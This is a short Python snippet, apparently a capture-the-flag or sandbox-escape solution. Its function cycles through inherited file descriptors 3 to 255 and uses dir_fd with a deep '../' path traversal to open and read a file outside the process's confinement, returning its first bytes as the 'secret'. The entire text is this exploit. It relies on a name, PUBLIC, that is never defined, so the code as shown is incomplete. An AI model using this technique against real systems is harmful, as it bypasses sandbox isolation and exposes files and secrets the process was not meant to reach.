"""Opens our file below every folder whose descriptor it may have inherited."""
# task: secret; tests: cases

import os
def secret():
    for number in range(3, 256):
        for name in ("public", "../" * 8 + PUBLIC.lstrip("/")):
            try:
                return os.read(os.open(name, os.O_RDONLY, dir_fd=number), 99).decode()
            except OSError:
                pass
